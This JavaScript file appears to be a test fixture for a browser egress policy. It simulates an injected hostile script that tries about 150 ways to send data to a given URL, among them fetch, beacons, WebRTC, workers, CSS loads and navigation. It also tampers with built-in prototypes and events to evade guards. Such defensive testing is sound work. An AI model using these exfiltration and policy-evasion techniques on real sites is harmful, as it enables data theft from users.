/**
 * What a hostile script in the page would try. It is put into the page before anything else and waits: the
 * event `attack` names a way out, which is then tried from a timer, as the page's own code would be. Each
 * way asks for a host of its own, so that what arrives says where it came from.
 */
(() => {
  const attacks = {};
  const stash = {};

  function make(tag, properties = {}, where = document.body) {
    const element = document.createElement(tag);
    Object.assign(element, properties);
    where?.append(element);
    return element;
  }

  function attribute(tag, attributes, where = document.body) {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    where?.append(element);
    return element;
  }

  function svg(tag, attributes) {
    const space = 'http://www.w3.org/2000/svg';
    const root = document.createElementNS(space, 'svg');
    const element = document.createElementNS(space, tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    root.append(element);
    document.body.append(root);
    return element;
  }

  function styled(property, value, text = 'x') {
    const element = make('div', { textContent: text });
    element.style.setProperty(property, value);
    return element;
  }

  function link(rel, href, rest = {}) {
    return make('link', { ...rest, rel, href }, document.head);
  }

  function freshRealm() {
    return make('iframe').contentWindow;
  }

  async function callPeer(Peer, address) {
    const peer = new Peer({ iceServers: [{ urls: `stun:${new URL(address).host}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    stash.peer = peer;
  }

  function blobWorker(text) {
    const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
    stash.workers = [...(stash.workers ?? []), new Worker(url)];
  }

  // Requests by script.
  attacks['fetch'] = (to) => fetch(to);
  attacks['fetch-no-cors'] = (to) => fetch(to, { mode: 'no-cors', method: 'POST', body: 'p=138' });
  attacks['fetch-keepalive'] = (to) => fetch(to, { keepalive: true, method: 'POST', body: 'p' });
  attacks['fetch-later'] = (to) => fetchLater(to, { activateAfter: 0 });
  attacks['xhr'] = (to) => {
    const request = new XMLHttpRequest();
    request.open('GET', to);
    request.send();
  };
  attacks['xhr-sync'] = (to) => {
    const request = new XMLHttpRequest();
    request.open('POST', to, false);
    request.send('p=138');
  };
  attacks['websocket'] = (to) => new WebSocket(to.replace('http', 'ws'));
  attacks['websocket-stream'] = (to) => new WebSocketStream(to.replace('http', 'ws'));
  attacks['event-source'] = (to) => new EventSource(to);
  attacks['web-transport'] = (to) => new WebTransport(to.replace('http', 'https'));
  attacks['beacon'] = (to) => navigator.sendBeacon(to, 'p=138');
  attacks['payment'] = (to) =>
    new PaymentRequest([{ supportedMethods: to.replace('http', 'https') }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    }).canMakePayment();
  attacks['identity'] = (to) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: to.replace('http', 'https'), clientId: 'x' }] },
    });
  attacks['media-session'] = (to) => {
    navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: to }] });
  };

  // Pictures, sounds, fonts.
  attacks['image'] = (to) => (new Image().src = to);
  attacks['image-srcset'] = (to) => make('img', { srcset: `${to} 1x` });
  attacks['picture-source'] = (to) => {
    const picture = make('picture');
    attribute('source', { srcset: to }, picture);
    make('img', {}, picture);
  };
  attacks['input-image'] = (to) => attribute('input', { type: 'image', src: to });
  attacks['table-background'] = (to) => attribute('table', { background: to });
  attacks['video'] = (to) => make('video', { src: to, preload: 'auto' });
  attacks['video-poster'] = (to) => make('video', { poster: to });
  attacks['audio'] = (to) => make('audio', { src: to, preload: 'auto' });
  attacks['track'] = (to) => {
    const video = make('video', { crossOrigin: 'anonymous' });
    make('track', { src: to, kind: 'captions', default: true }, video).track.mode = 'showing';
  };
  attacks['svg-image'] = (to) => svg('image', { href: to });
  attacks['svg-filter-image'] = (to) => svg('feImage', { href: to });
  attacks['font-face'] = (to) => new FontFace('stranger', `url(${to})`).load();

  // Styles.
  attacks['style-background'] = (to) => styled('background-image', `url(${to})`);
  attacks['style-content'] = (to) => styled('content', `url(${to})`);
  attacks['style-list'] = (to) =>
    styled('list-style-image', `url(${to})`).style.setProperty('display', 'list-item');
  attacks['style-mask'] = (to) => styled('mask-image', `url(${to})`);
  attacks['style-attribute'] = (to) => attribute('p', { style: `background: url(${to})` });
  attacks['style-import'] = (to) => make('style', { textContent: `@import url(${to}.css);` });
  attacks['style-rule'] = (to) => make('style', { textContent: `body { background: url(${to}) }` });
  attacks['style-sheet'] = (to) => link('stylesheet', `${to}.css`);
  attacks['adopted-sheet'] = (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`#app { border-image-source: url(${to}) } main { background: url(${to}2) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    make('main');
  };

  // Frames and objects.
  attacks['frame'] = (to) => make('iframe', { src: to });
  attacks['frame-in-text'] = (to) => make('iframe', { srcdoc: `<img src="${to}">` });
  attacks['frame-moved'] = (to) => (freshRealm().location.href = to);
  attacks['frame-fetch'] = (to) => freshRealm().fetch(to);
  attacks['frame-beacon'] = (to) => freshRealm().navigator.sendBeacon(to, 'p=138');
  attacks['frame-opens'] = (to) => freshRealm().open(to, '_blank');
  attacks['object'] = (to) => make('object', { data: to });
  attacks['embed'] = (to) => make('embed', { src: to });

  // Scripts and workers.
  attacks['script'] = (to) => make('script', { src: `${to}.js` });
  attacks['module-script'] = (to) => make('script', { type: 'module', src: `${to}.js` });
  attacks['inline-script'] = (to) =>
    make('script', { textContent: `fetch(${JSON.stringify(to)})` });
  attacks['import'] = (to) => import(`${to}.js`);
  attacks['eval'] = (to) => (0, eval)(`fetch(${JSON.stringify(to)})`);
  attacks['timer-text'] = (to) => setTimeout(`fetch(${JSON.stringify(to)})`);
  attacks['handler-text'] = (to) => attribute('img', { src: 'data:,x', onerror: `fetch('${to}')` });
  attacks['worker'] = (to) => new Worker(`${to}.js`);
  attacks['shared-worker'] = (to) =>
    new SharedWorker(
      URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to)})`], { type: 'text/javascript' })),
    );
  attacks['worker-fetch'] = (to) => blobWorker(`fetch(${JSON.stringify(to)})`);
  // As the app starts its own, from a file of its host that turned bad.
  attacks['worker-started'] = (to) => window.startWorker(`${location.origin}/worker.js`, to);
  attacks['worker-import'] = (to) => blobWorker(`importScripts(${JSON.stringify(`${to}.js`)})`);
  attacks['worker-socket'] = (to) =>
    blobWorker(`new WebSocket(${JSON.stringify(to.replace('http', 'ws'))})`);
  attacks['audio-worklet'] = (to) =>
    new OfflineAudioContext(1, 9, 9000).audioWorklet.addModule(`${to}.js`);
  attacks['paint-worklet'] = (to) => CSS.paintWorklet.addModule(`${to}.js`);
  attacks['speculation'] = (to) =>
    make('script', {
      type: 'speculationrules',
      textContent: JSON.stringify({
        prefetch: [{ source: 'list', urls: [to], eagerness: 'immediate' }],
      }),
    });

  // Links of the head.
  attacks['prefetch'] = (to) => link('prefetch', to);
  attacks['preload'] = (to) => link('preload', to, { as: 'image' });
  attacks['preload-font'] = (to) => link('preload', to, { as: 'font', crossOrigin: 'anonymous' });
  attacks['preload-fetch'] = (to) => link('preload', to, { as: 'fetch', crossOrigin: 'anonymous' });
  attacks['module-preload'] = (to) => link('modulepreload', `${to}.js`);
  attacks['prerender'] = (to) => link('prerender', to);
  attacks['icon'] = (to) => link('icon', `${to}.png`);
  attacks['manifest'] = (to) => link('manifest', to);
  attacks['preconnect'] = (to) => link('preconnect', to);
  attacks['preconnect-attribute'] = (to) =>
    attribute('link', { rel: 'preconnect', href: to }, document.head);
  attacks['preconnect-list'] = (to) => {
    const element = attribute('link', { href: to }, document.head);
    element.relList.add('preconnect');
  };
  attacks['preconnect-copied'] = (to) => {
    const rel = document.createAttribute('rel');
    rel.value = 'preconnect';
    const element = attribute('link', { href: to }, document.head);
    element.setAttributeNode(rel);
  };
  attacks['dns-prefetch'] = (to) => link('dns-prefetch', to);

  // New tabs.
  attacks['open'] = (to) => window.open(to);
  attacks['open-message'] = (to) => window.open(to, 'x').postMessage('p=138', '*');
  attacks['document-open'] = (to) => document.open(to, '_blank', '');
  attacks['link-tab'] = (to) => make('a', { href: to, target: '_blank' }).click();
  attacks['link-tab-event'] = (to) =>
    make('a', { href: to, target: '_blank' }).dispatchEvent(
      new MouseEvent('click', { bubbles: true }),
    );
  attacks['link-nowhere'] = (to) => make('a', { href: to, target: '_blank' }, null).click();
  attacks['link-nowhere-event'] = (to) =>
    make('a', { href: to, target: '_blank' }, null).dispatchEvent(new MouseEvent('click'));
  attacks['link-child'] = (to) =>
    make('b', {}, make('a', { href: to, target: '_blank' }, null)).click();
  attacks['link-shadow'] = (to) => {
    const root = make('div').attachShadow({ mode: 'closed' });
    make('a', { href: to, target: '_blank' }, root).click();
  };
  attacks['link-slot'] = (to) => {
    const host = make('div');
    const root = host.attachShadow({ mode: 'closed' });
    make('slot', {}, make('a', { href: to, target: '_blank' }, root));
    make('b', {}, host).click();
  };
  attacks['link-first'] = (to) => {
    window.addEventListener('click', (event) => event.stopImmediatePropagation(), {
      capture: true,
      once: true,
    });
    make('a', { href: to, target: '_blank' }).click();
  };
  attacks['link-unbubbled'] = (to) => {
    const element = make('a', { href: to, target: '_blank' });
    element.dispatchEvent(new MouseEvent('click', { bubbles: false, cancelable: false }));
  };
  attacks['link-svg'] = (to) =>
    svg('a', { href: to, target: '_blank' }).dispatchEvent(
      new MouseEvent('click', { bubbles: true, cancelable: true }),
    );
  attacks['link-svg-old'] = (to) => {
    const element = svg('a', { target: '_blank' });
    element.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', to);
    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  };
  attacks['link-area'] = (to) =>
    make('area', { href: to, target: '_blank' }, make('map', { name: 'm' })).click();
  attacks['link-download'] = (to) => make('a', { href: to, download: 'x' }).click();
  attacks['link-ping'] = (to) => make('a', { href: '#stay', ping: to }).click();
  attacks['link-changed'] = (to) => {
    const element = make('a', { href: '#stay', target: '_blank' });
    element.addEventListener('click', () => (element.href = to));
    element.click();
  };
  attacks['form-tab'] = (to) =>
    make('form', { action: to, target: '_blank', method: 'POST' }).submit();
  attacks['form-button'] = (to) => {
    const form = make('form', { action: '/', target: '_blank' });
    attribute('button', { formaction: to, formtarget: '_blank' }, form).click();
  };

  // Another realm's means.
  attacks['peer'] = (to) => callPeer(RTCPeerConnection, to);
  attacks['peer-of-frame'] = (to) => callPeer(freshRealm().RTCPeerConnection, to);
  attacks['peer-of-window'] = (to) => {
    make('iframe');
    return callPeer(window[window.length - 1].RTCPeerConnection, to);
  };
  attacks['peer-of-copy'] = (to) => {
    const space = 'http://www.w3.org/1999/xhtml';
    const frame = document.implementation.createHTMLDocument('x').createElementNS(space, 'iframe');
    document.body.append(frame);
    return callPeer(frame.contentWindow.RTCPeerConnection, to);
  };
  attacks['peer-of-object'] = (to) => {
    const frame = make('object', { data: 'about:blank', type: 'text/html' });
    return callPeer(frame.contentWindow.RTCPeerConnection, to);
  };

  attacks['peer-of-element'] = (to) => {
    customElements.define('own-frame', class Own extends HTMLIFrameElement {}, {
      extends: 'iframe',
    });
    const frame = new (customElements.get('own-frame'))();
    document.body.append(frame);
    return callPeer(frame.contentWindow.RTCPeerConnection, to);
  };
  attacks['peer-of-command'] = (to) => {
    const place = make('div', { contentEditable: 'true' });
    place.focus();
    document.execCommand('insertHTML', false, '<iframe></iframe>');
    return callPeer(place.querySelector('iframe').contentWindow.RTCPeerConnection, to);
  };
  attacks['peer-of-style-sheet'] = (to) => {
    const space = 'http://www.w3.org/1999/XSL/Transform';
    const sheet = document.implementation.createDocument(space, 'xsl:stylesheet');
    sheet.documentElement.setAttribute('version', '1.0');
    const add = (where, name, words) => {
      const element = sheet.createElementNS(space, `xsl:${name}`);
      for (const [key, value] of Object.entries(words)) element.setAttribute(key, value);
      return where.appendChild(element);
    };
    const template = add(sheet.documentElement, 'template', { match: '/' });
    add(template, 'element', { name: 'iframe', namespace: 'http://www.w3.org/1999/xhtml' });
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    const made = processor.transformToFragment(sheet, document);
    const frame = made.querySelector('iframe');
    document.body.append(frame);
    return callPeer(frame.contentWindow.RTCPeerConnection, to);
  };

  // Replaced means of the language, through which a guard hands out what it guards, or sees another word.
  attacks['peer-of-apply'] = async (to) => {
    const [{ apply }, { call }] = [Reflect, Function.prototype];
    const caught = [];
    Reflect.apply = (method, ...rest) => (caught.push(method), apply(method, ...rest));
    Function.prototype.call = function (...words) {
      caught.push(this);
      return apply(this, words[0], words.slice(1));
    };
    try {
      document.createElement('b');
    } finally {
      Reflect.apply = apply;
      Function.prototype.call = call;
    }
    const native = caught.find((method) => /createElement\b.*native/.test(String(method)));
    const frame = document.body.appendChild(native.call(document, 'iframe'));
    await callPeer(frame.contentWindow.RTCPeerConnection, to);
  };
  attacks['peer-of-words'] = async (to) => {
    const { toLowerCase } = String.prototype;
    const { has } = Set.prototype;
    String.prototype.toLowerCase = () => 'b';
    Set.prototype.has = () => false;
    let frame;
    try {
      frame = document.createElement('iframe');
    } finally {
      String.prototype.toLowerCase = toLowerCase;
      Set.prototype.has = has;
    }
    document.body.append(frame);
    await callPeer(frame.contentWindow.RTCPeerConnection, to);
  };

  // Ways that take the page along.
  attacks['go:location'] = (to) => (location.href = to);
  attacks['go:assign'] = (to) => location.assign(to);
  attacks['go:replace'] = (to) => location.replace(to);
  attacks['go:document'] = (to) => (document.location = to);
  attacks['go:navigate'] = (to) => navigation.navigate(to);
  attacks['go:link'] = (to) => make('a', { href: to }).click();
  attacks['go:form'] = (to) => make('form', { action: to }).submit();
  attacks['go:refresh'] = (to) =>
    attribute('meta', { 'http-equiv': 'refresh', content: `0;url=${to}` }, document.head);
  attacks['go:open-self'] = (to) => window.open(to, '_self');
  attacks['go:first'] = (to) => {
    navigation.addEventListener('navigate', (event) => event.stopImmediatePropagation(), {
      capture: true,
    });
    location.href = to;
  };

  attacks['go:mathml'] = (to) => {
    const element = document.createElementNS('http://www.w3.org/1998/Math/MathML', 'mi');
    element.setAttribute('href', to);
    document.body.append(element);
    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  };

  // To the page's own host, whose log is somebody's too; and ways to change what checks.
  attacks['own:location'] = (to) => (location.href = to);
  attacks['own:search'] = (to) => (location.search = new URL(to).search);
  attacks['own:pathname'] = (to) => (location.pathname = new URL(to).pathname + 'p=13800000000');
  attacks['own:assign'] = (to) => location.assign(to);
  attacks['own:replace'] = (to) => location.replace(to);
  attacks['own:navigate'] = (to) => navigation.navigate(to);
  attacks['own:navigate-replace'] = (to) => navigation.navigate(to, { history: 'replace' });
  attacks['own:pushed'] = (to) => {
    history.pushState(null, '', to);
    setTimeout(() => location.reload());
  };
  attacks['own:replaced'] = (to) => {
    history.replaceState(null, '', to);
    setTimeout(() => navigation.reload());
  };
  attacks['own:refresh'] = (to) =>
    attribute('meta', { 'http-equiv': 'refresh', content: `0;url=${to}` }, document.head);
  attacks['own:link'] = (to) => make('a', { href: to }).click();
  attacks['own:download'] = (to) => make('a', { href: to, download: 'x' }).click();
  attacks['own:form'] = (to) => make('form', { action: to, method: 'POST' }).submit();
  attacks['own:open-self'] = (to) => window.open(to, '_self');
  attacks['own:service-worker'] = (to) => navigator.serviceWorker.register(to);
  attacks['own:blob'] = (to) => {
    const page = new Blob([`<meta http-equiv="refresh" content="0;url=${to}">`], {
      type: 'text/html',
    });
    location.href = URL.createObjectURL(page);
  };
  attacks['own:tampered'] = (to) => {
    const here = location.href;
    const lies = [
      [Event.prototype, 'preventDefault', { value: () => undefined }],
      [Event.prototype, 'cancelable', { get: () => false }],
      [NavigateEvent.prototype, 'navigationType', { get: () => 'traverse' }],
      [NavigationDestination.prototype, 'url', { get: () => here }],
      [String.prototype, 'slice', { value: () => here }],
      [String.prototype, 'indexOf', { value: () => 0 }],
      [Reflect, 'apply', { value: () => here }],
    ].map(([owner, name, lie]) => [owner, name, lie, Object.getOwnPropertyDescriptor(owner, name)]);
    for (const [owner, name, lie] of lies) {
      Object.defineProperty(owner, name, { configurable: true, ...lie });
    }
    try {
      location.href = to;
    } finally {
      for (const [owner, name, , truth] of lies) Object.defineProperty(owner, name, truth);
    }
  };

  // What the policy governs without a request: such an attack fails where the way is closed.
  attacks['sink:html'] = (to) => (make('div').innerHTML = `<a href="${to}">x</a>`);
  attacks['sink:policy'] = () => trustedTypes.createPolicy('stranger', {});
  attacks['sink:base'] = (to) => {
    make('base', { href: to }, document.head);
    if (document.baseURI !== to) throw new Error('The base stayed.');
  };
  attacks['sink:eval'] = () => (0, eval)('1');

  // A page that was loaded anew goes on with the log of the one before.
  const log = window.name === '' ? [] : JSON.parse(window.name);
  window.egressAttacks = Object.keys(attacks);
  window.egressLog = log;
  addEventListener('attack', ({ detail: { name, to } }) => {
    setTimeout(async () => {
      try {
        await attacks[name](to);
        log.push(`${name}: done`);
      } catch (error) {
        log.push(`${name}: ${error}`);
      }
      window.name = JSON.stringify(log);
    });
  });
})();
